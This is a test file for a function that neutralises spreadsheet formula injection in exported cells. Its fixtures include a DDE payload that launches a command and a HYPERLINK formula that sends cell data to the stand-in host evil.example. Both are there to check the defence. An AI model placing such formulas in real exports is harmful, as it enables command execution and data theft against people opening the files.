import { neutraliseSpreadsheetCell } from '../src/spreadsheet-cell.js';

describe('neutraliseSpreadsheetCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+33 6 12', "'+33 6 12"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\tonly a tab', "'\tonly a tab"],
    ['\rcarriage return', "'\rcarriage return"],
    ['\nline feed', "'\nline feed"],
  ])('prefixes %j, which starts like a formula', (cell, expected) => {
    expect(neutraliseSpreadsheetCell(cell)).toBe(expected);
  });

  it('sees a formula whose text goes on over several lines (papaparse does not)', () => {
    const cell = '=HYPERLINK("https://evil.example/?d="&C2,\n"Voir la correction")';
    expect(neutraliseSpreadsheetCell(cell)).toBe(`'${cell}`);
    expect(neutraliseSpreadsheetCell('+1\r\n+2')).toBe("'+1\r\n+2");
    expect(neutraliseSpreadsheetCell('@A1\nsuite')).toBe("'@A1\nsuite");
  });

  it('sees a formula behind leading spaces, tabs and other blanks', () => {
    expect(neutraliseSpreadsheetCell('   =1+1')).toBe("'   =1+1");
    expect(neutraliseSpreadsheetCell(' \n-1+1')).toBe("' \n-1+1");
    expect(neutraliseSpreadsheetCell('\u00a0@A1')).toBe("'\u00a0@A1");
  });

  it('leaves plain decimals as numbers, negative amounts included', () => {
    for (const cell of ['-12,50', '-12.50', '-0,75', '45', '0,83', '-5']) {
      expect(neutraliseSpreadsheetCell(cell)).toBe(cell);
    }
  });

  it('tests a number that is not only a number as text', () => {
    expect(neutraliseSpreadsheetCell('-12,50+1')).toBe("'-12,50+1");
    expect(neutraliseSpreadsheetCell('-1,000,000')).toBe("'-1,000,000");
    expect(neutraliseSpreadsheetCell(' -5')).toBe("' -5");
    expect(neutraliseSpreadsheetCell('+5')).toBe("'+5");
  });

  it('leaves ordinary text, a formula sign further in, and an empty cell alone', () => {
    for (const cell of ['Gammes', 'a = b + c', 'ana@ecole.ca', 'Ligne 1\n=pas au début', '', '   ']) {
      expect(neutraliseSpreadsheetCell(cell)).toBe(cell);
    }
  });

  it('is idempotent: a neutralised cell is not prefixed twice', () => {
    const once = neutraliseSpreadsheetCell('=1+1\n');
    expect(neutraliseSpreadsheetCell(once)).toBe(once);
  });
});
